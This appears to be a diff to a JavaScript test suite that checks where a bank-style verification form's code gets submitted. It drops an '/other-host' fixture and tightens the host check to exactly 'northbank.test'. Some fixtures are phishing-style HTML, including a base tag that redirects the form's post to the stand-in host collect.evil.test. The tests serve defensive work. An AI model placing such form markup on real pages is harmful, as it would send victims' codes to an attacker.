@@ -30,13 +30,12 @@ const FOREIGN = new Map(Object.entries({
 const OWN = new Map(Object.entries({
   '/no-action': `${TEXT}<form method="post">${FIELD}<button>Verify</button></form>`,
   '/own': `${TEXT}<form method="post" action="/take">${FIELD}<button>Verify</button></form>`,
-  '/other-host': `${TEXT}<form method="post" action="https://login.northbank.test/take">${FIELD}<button>Verify</button></form>`,
   '/named': `${TEXT}<form method="post" action="/take">${FIELD}<input type="hidden" name="requestSubmit"><input type="hidden" name="elements"><button>Verify</button></form>`,
   '/empty-and-base': `<base href="https://collect.evil.test/">${TEXT}<form method="post" action="">${FIELD}<button>Verify</button></form>`,
   '/dialog': `${TEXT}<form method="dialog" action="${EVIL}">${FIELD}<button>Verify</button></form>`,
   '/script': `${TEXT}<form action="javascript:void 0">${FIELD}<button>Verify</button></form>`,
 }));
-const SENT = ['/no-action', '/own', '/other-host', '/named', '/empty-and-base'];
+const SENT = ['/no-action', '/own', '/named', '/empty-and-base'];
 
 /** Its form goes elsewhere as soon as the cursor comes, or when something is typed. */
 const CHANGING = new Map(Object.entries({
@@ -107,7 +106,7 @@ for (const path of OWN.keys()) {
     if (SENT.includes(path)) {
       await within(10_000, 'the form to be sent', () => bank.sent.length > 0);
       assert.ok(bank.isRight(bank.sent[0].code));
-      assert.match(bank.sent[0].host, /(?:^|\.)northbank\.test$/);
+      assert.equal(bank.sent[0].host, 'northbank.test');
     } else {
       await bank.closes();
       assert.ok(bank.isRight(await bank.standing()) || path === '/dialog');
